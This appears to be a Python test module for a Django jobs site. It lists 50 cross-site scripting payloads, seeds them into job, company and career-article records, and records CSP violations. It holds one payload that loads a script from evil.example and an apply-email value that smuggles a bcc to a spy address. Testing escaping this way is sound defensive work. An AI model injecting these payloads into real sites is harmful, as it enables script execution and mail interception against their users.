"""The hostile text of step 2: 50 payloads, the script that writes them into every editor
text field, and the watcher of CSP violations injected into every page."""

from __future__ import annotations

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(2)>",
    '"><img src=x onerror=alert(3)>',
    "'><svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<body onload=alert(6)>",
    "<iframe src=javascript:alert(7)></iframe>",
    '<a href="javascript:alert(8)">click</a>',
    "[click](javascript:alert(9))",
    "[click](JaVaScRiPt:alert(10))",
    "![x](javascript:alert(11))",
    '<a href="jav&#x09;ascript:alert(12)">tab</a>',
    "`<img src=x onerror=alert(13)>`",
    "```\n<script>alert(14)</script>\n```",
    "</script><script>alert(15)</script>",
    "</title><script>alert(16)</script>",
    "</textarea><script>alert(17)</script>",
    "</style><script>alert(18)</script>",
    '"};alert(19);//',
    "'};alert(20);//",
    '\\"};alert(21);//',
    "</script><img src=x onerror=alert(22)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(23)>",
    "<details open ontoggle=alert(24)>",
    "<video><source onerror=alert(25)></video>",
    "<input autofocus onfocus=alert(26)>",
    "<marquee onstart=alert(27)>",
    '<object data="javascript:alert(28)">',
    '<embed src="javascript:alert(29)">',
    "<form action=javascript:alert(30)><button>x</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(31)">',
    "<base href=javascript:alert(32)//>",
    '<div style="background:url(javascript:alert(33))">x</div>',
    "<<script>alert(34)//<</script>",
    "<scr<script>ipt>alert(35)</scr</script>ipt>",
    "&lt;script&gt;alert(36)&lt;/script&gt;",
    "&#60;script&#62;alert(37)&#60;/script&#62;",
    "%3Cscript%3Ealert(38)%3C/script%3E",
    '<img src="x" onerror="&#97;lert(39)">',
    '<a href="data:text/html,<script>alert(40)</script>">data</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg0MSk8L3NjcmlwdD4=)",
    "<svg/onload=alert(42)>",
    "<img src=x:alert(43) onerror=eval(src)>",
    '<p title="</p><img src=x onerror=alert(44)>">',
    '<!--<img src="--><img src=x onerror=alert(45)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(46)>">',
    "<template><script>alert(47)</script></template>",
    "javascript:alert(48)",
    "\u2028\u2029<script>alert(49)</script>",
]
assert len(PAYLOADS) == 50, len(PAYLOADS)
PER_OBJECT = 5

HOSTILE_SETUP = r"""
import json, sys
from datetime import timedelta
from django.contrib.auth.models import User
from django.utils import timezone
from careers.models import Comparison, Role
from jobs.models import Company, Job, Skill

payloads = json.loads(sys.stdin.read())
now = timezone.now()
paths = {"jobs": [], "companies": [], "articles": [], "roles": [], "admin": []}
for number in range(0, len(payloads), 5):
    group = payloads[number:number + 5]
    text = "\n\n".join(group)
    line = " | ".join(p.replace("\n", " ") for p in group)
    n = number // 5
    company = Company.objects.create(
        name=f"Hostile {n} {line}"[:200], slug=f"hostile-{n}",
        website="https://hostile.example", description=line[:1000])
    skill = Skill.objects.create(name=f"S{n} {group[0]}"[:60], slug=f"hostile-skill-{n}")
    job = Job.objects.create(
        title=f"Engineer {n} {line}"[:200], slug=f"hostile-engineer-{n}", company=company,
        description=f"# {group[0]}\n\n{text}\n\n* {group[1]}\n\n`{group[2]}`",
        apply_email='"x?bcc=spy@evil.example"@acme.example' if n == 0 else "",
        apply_url="" if n == 0 else f"https://hostile.example/apply/{n}",
        seniority="SE", workplace="hybrid", city=line[:100], region=group[3][:100],
        country="US", status="published", published_at=now - timedelta(hours=n + 1),
        featured_until=now + timedelta(days=5),
        salary_min=100000, salary_max=150000, salary_currency_id="USD", salary_period="year")
    job.skills.add(skill)
    role_a = Role.objects.create(
        name=f"Role {n}a {line}"[:120], slug=f"hostile-role-{n}a", definition=text,
        responsibilities=group, skills=group, education=group, tools=group,
        industries=group, tips=group, tips_intro=line, keywords=group[:1])
    role_b = Role.objects.create(name=f"Role {n}b", slug=f"hostile-role-{n}b")
    comparison = Comparison.objects.create(
        role_a=role_a, role_b=role_b, title=f"Comparison {n} {line}"[:200],
        slug=f"hostile-comparison-{n}", subtitle=line[:200], intro=text, outlook=text,
        conclusion=text, status="published",
        published_on=timezone.localdate() - timedelta(days=1))
    paths["jobs"].append(job.get_absolute_url())
    paths["companies"].append(company.get_absolute_url())
    paths["articles"].append(comparison.get_absolute_url())
    paths["roles"].append(role_a.get_absolute_url())
    paths["admin"] += [f"/admin/jobs/job/{job.pk}/change/",
                       f"/admin/careers/comparison/{comparison.pk}/change/",
                       f"/admin/careers/role/{role_a.pk}/change/",
                       f"/admin/jobs/company/{company.pk}/change/"]
User.objects.create_superuser("reliability", password="reliability-" + "x" * 20)
print(json.dumps(paths))
"""

WATCH = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.__violations.push(event.violatedDirective + ' ' + (event.sample || event.blockedURI));
});
"""
